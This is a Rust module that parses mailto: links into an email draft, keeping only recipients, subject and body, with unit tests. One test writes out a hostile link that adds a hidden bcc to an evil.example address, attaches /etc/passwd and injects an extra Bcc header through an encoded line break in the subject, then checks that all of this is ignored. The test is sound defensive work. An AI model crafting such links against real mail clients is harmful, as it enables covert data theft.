//! `mailto:` URIs (RFC 6068): what a link on the web wants to be written. Only the recipients,
//! the subject and the text are taken; other fields are the writer's own to set (section 4).

use crate::model::Draft;
use percent_encoding::percent_decode_str;

/// Characters of a value that are taken.
const LIMIT: usize = 50_000;

/// The draft that `uri` asks for.
pub fn draft(uri: &str) -> Draft {
    let mut draft = Draft::default();
    let rest = uri.split_once(':').map_or(uri, |(_, rest)| rest);
    let (to, fields) = rest.split_once('?').unwrap_or((rest, ""));
    draft.to = one_line(&decode(to));
    for field in fields.split('&').take(50) {
        let (name, value) = field.split_once('=').unwrap_or((field, ""));
        let value = decode(value);
        match name.to_ascii_lowercase().as_str() {
            "to" => join(&mut draft.to, &value),
            "cc" => join(&mut draft.cc, &value),
            "subject" => draft.subject = one_line(&value),
            "body" => draft.text = value.replace("\r\n", "\n").replace('\r', "\n"),
            _ => {}
        }
    }
    draft
}

// A plus is a plus here (section 2), unlike in a form.
fn decode(text: &str) -> String {
    percent_decode_str(text)
        .decode_utf8_lossy()
        .chars()
        .filter(|c| *c != '\0')
        .take(LIMIT)
        .collect()
}

fn one_line(text: &str) -> String {
    text.chars()
        .map(|c| if c.is_control() { ' ' } else { c })
        .collect()
}

fn join(list: &mut String, more: &str) {
    if !list.is_empty() {
        list.push_str(", ");
    }
    list.push_str(&one_line(more));
}

#[cfg(test)]
mod tests {
    use super::draft;

    #[test]
    fn the_examples_of_the_rfc() {
        let one = draft("mailto:addr1@an.example,addr2@an.example?cc=c%40an.example");
        assert_eq!(one.to, "addr1@an.example,addr2@an.example");
        assert_eq!(one.cc, "c@an.example");
        let two = draft("MAILTO:?to=a@an.example&subject=caf%C3%A9&body=one%0D%0Atwo+three");
        assert_eq!(two.to, "a@an.example");
        assert_eq!(two.subject, "café");
        assert_eq!(two.text, "one\ntwo+three");
    }

    #[test]
    fn a_hostile_link_sets_nothing_else() {
        let mail = draft(
            "mailto:a@an.example?bcc=spy@evil.example&attach=/etc/passwd&subject=a%0D%0ABcc:%20x@evil.example",
        );
        assert_eq!(mail.bcc, "");
        assert!(mail.attachments.is_empty());
        assert!(!mail.subject.contains(['\r', '\n']));
    }
}
